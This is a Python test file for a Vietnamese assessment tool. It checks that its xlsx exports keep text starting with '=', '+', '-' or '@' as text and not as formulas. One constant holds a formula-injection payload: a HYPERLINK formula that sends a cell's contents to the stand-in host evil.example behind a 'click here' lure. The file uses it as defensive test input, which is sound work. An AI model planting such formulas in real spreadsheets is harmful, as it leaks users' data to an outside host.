"""Every xlsx writer stores typed text as text: '=…', '+…', '-…', '@…' never become formulas."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import yaml
from openpyxl import load_workbook

from parindex.accounts.xlsx_import import build_password_sheet
from parindex.assessments.models import Entry
from parindex.engine.cli import main
from parindex.frameworks.files import xlsx_bytes
from parindex.reports.renderers import render_xlsx
from parindex.reports.selectors import self_assessment_report_data
from tests.engine.conftest import EXAMPLES

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TRICKY = [FORMULA, "+84 912 345 678", "-trừ điểm", "@SUM(1+1)"]


def _text_cells(wb, wanted):
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in wanted:
                    found[cell.value] = cell.data_type
    return found


def _assert_all_text(wb, wanted):
    found = _text_cells(wb, wanted)
    assert set(found) == set(wanted), f"missing: {set(wanted) - set(found)}"
    assert set(found.values()) == {"s"}, found


def test_the_report_workbook_keeps_an_explanation_starting_with_equals_as_text(report_case):
    Entry.objects.filter(assessment=report_case.assessment, node__code="3.2").update(
        explanation=FORMULA
    )
    Entry.objects.filter(assessment=report_case.assessment, node__code="1.5").update(
        explanation="-trừ điểm"
    )
    data = self_assessment_report_data(report_case.assessment)
    wb = load_workbook(io.BytesIO(render_xlsx(data)))
    _assert_all_text(wb, [FORMULA, "-trừ điểm"])


def test_the_framework_export_keeps_titles_and_guides_as_text():
    data = yaml.safe_load((EXAMPLES / "so-demo.yaml").read_text(encoding="utf-8"))
    data["title"] = "@SUM(1+1)"
    data["nodes"][0]["title"] = FORMULA
    data["nodes"][0]["children"][0]["title"] = "+84 912 345 678"
    wb = load_workbook(io.BytesIO(xlsx_bytes(data)))
    _assert_all_text(wb, [FORMULA, "+84 912 345 678", "@SUM(1+1)"])


def test_the_password_sheet_keeps_names_and_passwords_as_text():
    sheet = build_password_sheet([("cv.a", FORMULA, "-X", "=1+1"), ("cv.b", "@x", "+1", "p")])
    wb = load_workbook(io.BytesIO(sheet))
    _assert_all_text(wb, [FORMULA, "-X", "=1+1", "@x", "+1"])


def test_the_calculator_workbook_keeps_unit_names_as_text(tmp_path, capsys):
    units = tmp_path / "units.csv"
    lines = (EXAMPLES / "so-demo-units.csv").read_text(encoding="utf-8").splitlines()
    lines[1] = "STP,=1+2"
    lines[2] = "SNV,@Sở Nội vụ"
    units.write_text("\n".join(lines) + "\n", encoding="utf-8")
    framework = tmp_path / "fw.yaml"
    shutil.copy(EXAMPLES / "so-demo.yaml", framework)
    target: Path = tmp_path / "kq.xlsx"
    code = main(
        [
            str(framework),
            str(EXAMPLES / "so-demo-values.csv"),
            "--units",
            str(units),
            "--format",
            "xlsx",
            "-o",
            str(target),
        ]
    )
    assert code == 0, capsys.readouterr().err
    wb = load_workbook(target)
    _assert_all_text(wb, ["=1+2", "@Sở Nội vụ"])
